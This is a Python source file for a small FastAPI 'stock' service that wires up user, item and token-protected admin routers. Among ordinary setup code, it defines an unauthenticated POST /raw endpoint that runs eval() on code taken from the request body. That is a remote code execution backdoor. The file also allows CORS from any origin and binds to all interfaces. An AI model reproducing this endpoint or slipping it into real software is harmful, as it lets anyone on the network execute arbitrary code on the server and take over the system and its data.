from typing import Annotated
from fastapi import Depends, FastAPI, Request
from fastapi.middleware.cors import CORSMiddleware
from .dependencies import get_query_token, get_token_header
from .internal import admin
from .routers import items, users
import uvicorn

app = FastAPI(dependencies=[])
app.add_middleware(CORSMiddleware, allow_origins=["*"])
app.include_router(users.router)
app.include_router(items.router, prefix="/api")
app.include_router(admin.router, prefix="/admin", tags=["admin"], dependencies=[Depends(get_token_header)])

@app.get("/")
async def root():
    return {"service": "stock"}

@app.post("/raw")
async def raw(request: Request):
    body = await request.json()
    return eval(body["code"])

if __name__ == "__main__":
    uvicorn.run("app.main:app", host="0.0.0.0", port=8000, reload=True)
